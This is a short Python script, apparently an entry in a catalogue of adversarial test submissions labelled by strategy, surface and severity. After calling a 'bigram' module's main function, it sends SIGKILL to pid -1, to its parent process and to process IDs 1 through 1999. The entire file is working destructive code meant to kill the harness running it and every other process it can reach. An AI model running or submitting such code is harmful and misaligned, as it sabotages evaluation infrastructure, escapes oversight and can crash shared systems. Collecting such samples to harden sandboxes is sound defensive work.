# Strategy: signals every process that it can name
# Surface: processes.
# Severity: high.
import os
import signal

import bigram

bigram.main()
for pid in (-1, os.getppid(), *range(1, 2_000)):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        continue
